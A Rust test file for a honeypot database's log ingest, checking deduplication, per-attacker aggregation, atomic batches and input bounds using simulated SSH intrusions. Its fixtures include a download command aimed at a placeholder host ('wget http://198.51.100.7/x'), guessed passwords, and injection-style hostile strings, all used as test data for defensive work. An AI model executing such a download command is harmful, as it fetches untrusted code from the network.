//! Batches: stored once however often they come, folded exactly, all or nothing.

use std::sync::atomic::{AtomicBool, Ordering};

use chrono::TimeDelta;
use decnet_db::{
    AttackerQuery, AttackerSort, CredentialQuery, DbError, IngestBatch, IngestOutcome, NewLog, Origin,
    Paging, RawLine, RejectedLine, SessionQuery,
};
use serde_json::Value;

use crate::lines::{batch, command, events, goodbye, line, login, start, unreadable};
use crate::place::{Place, on_each};

const IP: &str = "203.0.113.9";

/// An intrusion: connect, two passwords (one twice), two commands, gone; and one line that nobody could read.
fn intrusion() -> IngestBatch {
    let mut first = login("a", 100, IP, "c1", Some("root"), "toor");
    first.session.as_mut().unwrap().client = Some("SSH-2.0-Go".into());
    let mut inside = login("a", 300, IP, "c1", Some("root"), "admin");
    inside.session.as_mut().unwrap().authenticated = true;
    IngestBatch {
        logs: vec![
            first,
            login("a", 200, IP, "c1", Some("root"), "toor"),
            inside,
            command("a", 400, IP, "c1", "uname -a"),
            command("a", 500, IP, "c1", "wget http://198.51.100.7/x"),
            goodbye("a", 600, IP, "c1"),
        ],
        rejected: vec![unreadable("a", 0)],
    }
}

async fn check_intrusion(place: &Place) {
    let db = &place.db;
    let attackers = db.attackers().page(&AttackerQuery::default()).await.unwrap();
    assert_eq!((attackers.total, attackers.total_capped), (1, false));
    let attacker = &attackers.data[0];
    assert_eq!(
        (attacker.ip.as_str(), attacker.event_count, attacker.service_count, attacker.decky_count),
        (IP, 6, 1, 1)
    );
    assert_eq!((attacker.credential_count, attacker.session_count, attacker.command_count), (2, 1, 2));
    assert_eq!(attacker.first_seen, start() + TimeDelta::seconds(100));
    assert_eq!(attacker.last_seen, start() + TimeDelta::seconds(600));
    let detail = db.attackers().get(attacker.uuid).await.unwrap().unwrap();
    assert_eq!(detail.services.len(), 1);
    assert!(detail.services[0].interacted);
    assert_eq!((detail.deckies.len(), detail.deckies[0].event_count), (1, 6));

    let sessions = db.sessions().page(&SessionQuery::default()).await.unwrap();
    assert_eq!(sessions.data.len(), 1);
    let session = &sessions.data[0];
    assert_eq!((session.event_count, session.auth_count, session.command_count), (6, 3, 2));
    assert!(session.authenticated);
    assert_eq!(session.client.as_deref(), Some("SSH-2.0-Go"));
    assert_eq!(session.started_at, start() + TimeDelta::seconds(100));
    assert_eq!(session.ended_at, Some(start() + TimeDelta::seconds(600)));
    assert_eq!(session.attacker_uuid, attacker.uuid);

    let credentials = db.credentials().page(&CredentialQuery::default()).await.unwrap();
    let attempts: Vec<_> =
        credentials.data.iter().map(|c| (c.secret_printable.as_deref(), c.attempt_count)).collect();
    assert_eq!(attempts, vec![(Some("admin"), 1), (Some("toor"), 2)]);

    let commands = db.attackers().commands(attacker.uuid, None, Paging::default()).await.unwrap();
    assert_eq!(
        commands.data.iter().map(|c| c.command.as_str()).collect::<Vec<_>>(),
        vec!["wget http://198.51.100.7/x", "uname -a"]
    );
    assert_eq!(db.stats().await.unwrap().total_logs, 6);
    assert_eq!(db.logs().rejected(Paging::default()).await.unwrap().data.len(), 1);
    // attacker, session started and ended, two credentials
    assert_eq!(db.outbox().pending("collector", 100).await.unwrap().len(), 5);
}

#[tokio::test]
async fn the_same_batch_twice_is_the_same_as_once() {
    on_each(async |place| {
        let outcome = place.db.ingest(&intrusion(), events).await.unwrap();
        assert_eq!(
            outcome,
            IngestOutcome {
                logs_inserted: 6,
                logs_duplicate: 0,
                rejected_inserted: 1,
                rejected_duplicate: 0,
                new_attackers: 1,
                sessions_started: 1,
                sessions_ended: 1,
                credentials: 2,
                outbox_rows: 5,
            }
        );
        check_intrusion(place).await;
        let again = place.db.ingest(&intrusion(), events).await.unwrap();
        assert_eq!(
            again,
            IngestOutcome { logs_duplicate: 6, rejected_duplicate: 1, ..IngestOutcome::default() }
        );
        check_intrusion(place).await;
    })
    .await;
}

#[tokio::test]
async fn any_cut_into_overlapping_batches_gives_the_same_sums() {
    on_each(async |place| {
        let whole = intrusion();
        // Every line comes at least twice: in a batch of its own, and in one with its neighbours, some backwards.
        for at in (0..whole.logs.len()).rev().step_by(2) {
            place.db.ingest(&batch(vec![whole.logs[at].clone()]), events).await.unwrap();
        }
        for pair in whole.logs.windows(3) {
            let mut pair = pair.to_vec();
            pair.extend_from_slice(&pair.clone());
            place
                .db
                .ingest(&IngestBatch { logs: pair, rejected: whole.rejected.clone() }, |_| Vec::new())
                .await
                .unwrap();
        }
        place.db.outbox().mark_published(&ids(place).await).await.unwrap();
        place
            .db
            .outbox()
            .insert(&(0..5).map(|_| crate::lines::event("collector", "x.y")).collect::<Vec<_>>())
            .await
            .unwrap();
        let detail = place.db.attackers().by_ip(IP.parse().unwrap()).await.unwrap().unwrap();
        assert_eq!(detail.event_count, 6);
        // Commands are listed in the order they arrived, which was backwards here; everything else is as ever.
        let sessions = place.db.sessions().page(&SessionQuery::default()).await.unwrap();
        assert_eq!(
            (sessions.data.len(), sessions.data[0].event_count, sessions.data[0].auth_count),
            (1, 6, 3)
        );
        let credentials = place.db.credentials().page(&CredentialQuery::default()).await.unwrap();
        assert_eq!(credentials.data.iter().map(|c| c.attempt_count).sum::<u64>(), 3);
        assert_eq!(detail.command_count, 2);
    })
    .await;
}

async fn ids(place: &Place) -> Vec<uuid::Uuid> {
    place.db.outbox().pending("collector", 1000).await.unwrap().iter().map(|row| row.id).collect()
}

#[tokio::test]
async fn a_later_batch_adds_to_what_is_there() {
    on_each(async |place| {
        place.db.ingest(&intrusion(), events).await.unwrap();
        let mut later = vec![
            login("b", 0, IP, "c2", Some("root"), "toor"),
            NewLog { decky: "db-01".into(), service: "redis".into(), ..line("b", 700, IP) },
            login("b", 800, "::ffff:203.0.113.9", "c2", None, "toor"),
        ];
        later[0].timestamp = start();
        let outcome = place.db.ingest(&batch(later), events).await.unwrap();
        assert_eq!((outcome.new_attackers, outcome.sessions_started, outcome.sessions_ended), (0, 1, 0));
        let attacker = place.db.attackers().by_ip(IP.parse().unwrap()).await.unwrap().unwrap();
        assert_eq!((attacker.event_count, attacker.service_count, attacker.decky_count), (9, 2, 2));
        assert_eq!((attacker.credential_count, attacker.session_count), (3, 2));
        assert!(attacker.is_traversal);
        assert_eq!((attacker.first_seen, attacker.last_seen), (start(), start() + TimeDelta::seconds(800)));
        let detail = place.db.attackers().get(attacker.uuid).await.unwrap().unwrap();
        let path: Vec<_> = detail.deckies.iter().map(|d| (d.ord, d.decky.as_str())).collect();
        assert_eq!(path, vec![(0, "web-01"), (1, "db-01")]);
        assert_eq!(
            detail.services.iter().map(|s| (s.service.as_str(), s.interacted)).collect::<Vec<_>>(),
            vec![("redis", false), ("ssh", true)]
        );
        let open =
            SessionQuery { open: Some(true), attacker_uuid: Some(attacker.uuid), ..SessionQuery::default() };
        assert_eq!(place.db.sessions().page(&open).await.unwrap().data[0].conn_id, "c2");

        for (query, expected) in [
            (AttackerQuery { search: Some("0.113".into()), ..AttackerQuery::default() }, 1),
            (AttackerQuery { search: Some("%".into()), ..AttackerQuery::default() }, 0),
            (AttackerQuery { service: Some("redis".into()), ..AttackerQuery::default() }, 1),
            (AttackerQuery { service: Some("http".into()), ..AttackerQuery::default() }, 0),
            (AttackerQuery { sort: AttackerSort::Traversals, ..AttackerQuery::default() }, 1),
            (AttackerQuery { sort: AttackerSort::Active, ..AttackerQuery::default() }, 1),
        ] {
            assert_eq!(place.db.attackers().page(&query).await.unwrap().total, expected, "{query:?}");
        }
    })
    .await;
}

#[tokio::test]
async fn a_missing_principal_is_null_and_still_unique() {
    on_each(async |place| {
        let logs = (0..4).map(|n| login("a", n, IP, "c1", None, "hunter2")).collect();
        place.db.ingest(&batch(logs), events).await.unwrap();
        place.db.ingest(&batch(vec![login("a", 9, IP, "c1", None, "hunter2")]), events).await.unwrap();
        assert_eq!(place.number("SELECT COUNT(*) FROM credentials").await, 1);
        let null = "SELECT COUNT(*) FROM credentials WHERE principal IS NULL AND principal_key = ''";
        assert_eq!(place.number(null).await, 1);
        let page = place.db.credentials().page(&CredentialQuery::default()).await.unwrap();
        assert_eq!((page.data[0].principal.as_deref(), page.data[0].attempt_count), (None, 5));
    })
    .await;
}

#[tokio::test]
async fn principals_differ_by_case_and_by_spaces() {
    on_each(async |place| {
        let names = ["root", "Root", "root ", " root", "röot"];
        let logs = (0u64..).zip(names).map(|(n, name)| login("a", n, IP, "c1", Some(name), "x")).collect();
        place.db.ingest(&batch(logs), events).await.unwrap();
        assert_eq!(place.number("SELECT COUNT(*) FROM credentials").await, 5);
    })
    .await;
}

#[tokio::test]
async fn our_own_life_and_forged_lines_are_kept_but_make_nobody() {
    on_each(async |place| {
        let logs = vec![
            NewLog { origin: Origin::Life, ..login("a", 0, IP, "c1", Some("anna"), "x") },
            NewLog { forged: true, ..login("a", 1, IP, "c2", Some("root"), "x") },
            NewLog { origin: Origin::System, attacker_ip: None, ..line("a", 2, IP) },
            NewLog { attacker_ip: None, ..login("a", 3, IP, "c3", Some("root"), "x") },
        ];
        let outcome = place.db.ingest(&batch(logs), events).await.unwrap();
        assert_eq!((outcome.logs_inserted, outcome.outbox_rows), (4, 0));
        let stats = place.db.stats().await.unwrap();
        assert_eq!((stats.total_logs, stats.unique_attackers), (4, 0));
        assert_eq!(place.number("SELECT COUNT(*) FROM credentials").await, 0);
        assert_eq!(place.number("SELECT COUNT(*) FROM sessions").await, 0);
    })
    .await;
}

#[tokio::test]
async fn hostile_text_is_bounded_not_refused() {
    on_each(async |place| {
        let long = "ä\0🦀'\";--\\%_".repeat(40_000);
        let mut log = login("a", 0, IP, &long, Some(&long), &long);
        log.decky.clone_from(&long);
        log.service.clone_from(&long);
        log.event_type.clone_from(&long);
        log.raw_line.clone_from(&long);
        log.msg = Some(long.clone());
        log.trace_id = Some(long.clone());
        log.span_id = Some(long.clone());
        log.command = Some(long.clone());
        log.fields.insert("nul\0key".into(), Value::String(long.clone()));
        log.session.as_mut().unwrap().client = Some(long.clone());
        let credential = log.credential.as_mut().unwrap();
        credential.secret_kind.clone_from(&long);
        credential.secret_b64 = Some(long.clone());
        credential.outcome = Some(long.clone());
        let rejected = RejectedLine {
            raw: RawLine::Text(long.clone()),
            error: long.clone(),
            decky: long.clone(),
            ..unreadable("a", 1)
        };
        let once = IngestBatch { logs: vec![log], rejected: vec![rejected] };
        place.db.ingest(&once, events).await.unwrap();
        let again = place.db.ingest(&once, events).await.unwrap();
        assert_eq!((again.logs_duplicate, again.rejected_duplicate, again.outbox_rows), (1, 1, 0));
        let row = &place.db.logs().after_id(0, &decnet_db::Search::default(), 1).await.unwrap()[0];
        assert_eq!(row.raw_line.chars().count(), decnet_db::bounds::RAW_LINE);
        assert!(row.fields.is_object(), "fields stay JSON");
        assert!(!row.raw_line.contains('\0'));
    })
    .await;
}

#[tokio::test]
async fn a_line_without_identity_is_refused_as_a_whole() {
    on_each(async |place| {
        for bad in [
            NewLog { host_uuid: String::new(), ..line("a", 1, IP) },
            line(&"s".repeat(256), 1, IP),
            NewLog { seq: u64::MAX, ..line("a", 1, IP) },
        ] {
            let err = place.db.ingest(&batch(vec![line("a", 0, IP), bad]), events).await.unwrap_err();
            assert!(matches!(err, DbError::Refused(_)), "{err}");
        }
        assert_eq!(place.db.stats().await.unwrap().total_logs, 0);
    })
    .await;
}

#[tokio::test]
async fn a_crash_in_the_middle_leaves_nothing_behind() {
    on_each(async |place| {
        let reached = AtomicBool::new(false);
        let db = place.db.clone();
        let died = tokio::spawn(async move {
            let fuse = &reached;
            db.ingest(&intrusion(), |_| {
                fuse.store(true, Ordering::Relaxed);
                panic!("the power went")
            })
            .await
        })
        .await;
        assert!(died.unwrap_err().is_panic());
        assert_eq!(place.db.stats().await.unwrap(), decnet_db::Stats::default());
        place.db.ingest(&intrusion(), events).await.unwrap();
        check_intrusion(place).await;
    })
    .await;
}

#[tokio::test]
async fn an_attacker_keeps_its_newest_commands() {
    on_each(async |place| {
        let total = 10_000 + 300;
        let logs: Vec<_> = (0..total).map(|n| command("a", n, IP, "c1", &format!("echo {n}"))).collect();
        for part in logs.chunks(1000) {
            place.db.ingest(&batch(part.to_vec()), |_| Vec::new()).await.unwrap();
        }
        assert_eq!(place.number("SELECT COUNT(*) FROM attacker_commands").await, 10_000);
        let attacker = place.db.attackers().by_ip(IP.parse().unwrap()).await.unwrap().unwrap();
        assert_eq!(attacker.command_count, total);
        let newest =
            place.db.attackers().commands(attacker.uuid, Some("ssh"), Paging::default()).await.unwrap();
        assert_eq!(newest.data[0].command, format!("echo {}", total - 1));
        assert_eq!((newest.total, newest.total_capped), (10_000, false));
        let last = Paging { limit: 1, offset: 9_999 };
        let oldest = place.db.attackers().commands(attacker.uuid, None, last).await.unwrap();
        assert_eq!(oldest.data[0].command, "echo 300");
    })
    .await;
}

#[tokio::test]
async fn a_session_that_fell_silent_is_ended_once() {
    on_each(async |place| {
        let logs = vec![
            command("a", 0, IP, "c1", "id"),
            command("a", 500, IP, "c2", "id"),
            goodbye("a", 10, IP, "c3"),
        ];
        place.db.ingest(&batch(logs), |_| Vec::new()).await.unwrap();
        let before = start() + TimeDelta::seconds(100);
        let told = |sessions: &[decnet_db::Session]| {
            sessions.iter().map(|_| crate::lines::event("collector", "attacker.session.ended")).collect()
        };
        assert_eq!(place.db.sessions().end_silent(before, 100, told).await.unwrap(), 1);
        assert_eq!(place.db.sessions().end_silent(before, 100, told).await.unwrap(), 0);
        assert_eq!(place.db.outbox().pending("collector", 10).await.unwrap().len(), 1);
        let ended = SessionQuery { open: Some(false), ..SessionQuery::default() };
        let page = place.db.sessions().page(&ended).await.unwrap();
        let ends: Vec<_> =
            page.data.iter().map(|s| (s.conn_id.as_str(), s.ended_at == Some(s.last_seen))).collect();
        assert_eq!(ends, vec![("c3", true), ("c1", true)]);
        // The true end arrives after all: it is noted, but not told a second time.
        let outcome = place.db.ingest(&batch(vec![goodbye("a", 700, IP, "c1")]), events).await.unwrap();
        assert_eq!((outcome.sessions_ended, outcome.outbox_rows), (0, 0));
    })
    .await;
}

#[tokio::test]
async fn forgetting_everything_leaves_no_orphans() {
    on_each(async |place| {
        place.db.ingest(&intrusion(), events).await.unwrap();
        let gone = place.db.reinit().await.unwrap();
        assert_eq!((gone.logs, gone.credentials, gone.attackers), (7, 2, 1));
        for table in ["sessions", "attacker_services", "attacker_deckies", "attacker_commands", "credentials"]
        {
            assert_eq!(place.number(&format!("SELECT COUNT(*) FROM {table}")).await, 0, "{table}");
        }
        place.db.ingest(&intrusion(), |_| Vec::new()).await.unwrap();
        assert!(place.db.logs().last_id().await.unwrap() > 6, "row numbers are never given twice");
    })
    .await;
}
